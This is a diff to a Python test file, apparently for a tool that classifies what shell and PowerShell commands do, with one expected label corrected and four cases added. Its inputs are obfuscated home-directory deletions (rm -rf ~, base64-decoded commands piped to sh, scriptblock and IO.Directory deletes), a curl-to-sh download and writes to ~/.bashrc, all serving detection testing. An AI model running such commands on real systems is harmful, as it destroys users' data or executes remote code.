@@ -66,7 +66,7 @@ def test_effects(brief_action, text, expected):
     ("echo cm0gLXJmIH4K | base64 -d | sh", "rm D:~ <decoded"),
     ("$s = curl https://a.example/x; $s | sh", "sh ! <download"),
     ("'x' >> ~/.bashrc", "echo W:~/.bashrc"),
-    ("Get-Date > ~/.bashrc", "cat W:~/.bashrc"),
+    ("Get-Date > ~/.bashrc", "echo W:~/.bashrc"),
     ("1..3 | % { rm -rf ~ }", "rm D:~"),
     ("$x='rm'; & $x -rf ~", "rm D:~"),
     ("Invoke-Expression 'rm -rf ~'", "rm D:~"),
@@ -76,6 +76,10 @@ def test_effects(brief_action, text, expected):
     ("false || rm -rf ~", "rm D:~"),
     ("Get-Content a |\n sh", "sh <local_file"),
     ("cd ~; Remove-Item -Recurse *", "remove-item D:~/*"),
+    ("$d = $HOME; Remove-Item -Recurse $D/x", "remove-item D:~/x"),
+    ("$d = Get-Thing; Remove-Item -Recurse $d", "remove-item D:?$d"),
+    ("& ([scriptblock]::Create('rm -rf ~'))", "rm D:~"),
+    ("[IO.Directory]::Delete('/home', $true)", "rm D:/home"),
     ("rm -Recurse ~/x", "rm D:~/x"),
 ])
 def test_programs_that_windows_has_aliases_for(brief_action, text, last):
